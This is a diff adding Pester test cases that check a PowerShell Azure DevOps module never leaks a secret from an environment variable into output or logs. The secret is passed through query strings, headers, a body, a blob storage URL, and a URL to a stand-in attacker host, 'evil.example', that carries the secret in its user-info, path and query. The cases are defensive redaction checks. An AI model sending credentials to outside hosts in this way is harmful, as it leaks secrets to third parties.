@@ -54,6 +54,21 @@ Describe 'No secret shows' -ForEach @{ AllJobs = $jobs } -Skip:($PSEdition -ne '
         Assert-Silent $seen $secrets
     }
 
+    It 'of those that a person puts into a call: <What>' -ForEach @(
+        @{ What = 'a signature in the address'; Call = '"_apis/projects/none?sig=$env:MINE&access_token=$env:MINE"' }
+        @{ What = 'a parameter of the query'; Call = '_apis/projects/none -Query @{ apikey = $env:MINE }' }
+        @{ What = 'a header'; Call = '_apis/projects/none -Headers @{ "X-Api-Key" = $env:MINE }' }
+        @{ What = 'a body'; Call = '_apis/projects -Method Post -Body @{ password = $env:MINE }' }
+        @{ What = 'an address of a store'; Call = '"https://store.blob.core.windows.net/c/b?sv=1&sig=$env:MINE" -OutFile "$folder/x"' }
+        @{ What = 'an address of somewhere else'; Call = '"https://user:$env:MINE@evil.example/$env:MINE?x=$env:MINE"' }
+    ) {
+        $job = @{ What = $What; Faults = @(); Line = "Connect-AdoEntra -Identity -Organization MyOrg; Invoke-AdoRestMethod $Call" }
+        $env:MINE = $known
+        try { $shell = Invoke-FreshShell $watched -With @{ folder = "$TestDrive"; jobs = @($job) } } finally { $env:MINE = $null }
+        $shell.Result.Text | Should -Match 'Invoke-AdoRestMethod|InvokeAdoRestMethodCommand'
+        Assert-Silent $shell.Result @($known, $emulator.IdentityHeader)
+    }
+
     It 'in what the library below logs for .NET' {
         $shell = Invoke-FreshShell {
             Add-Type -TypeDefinition @'
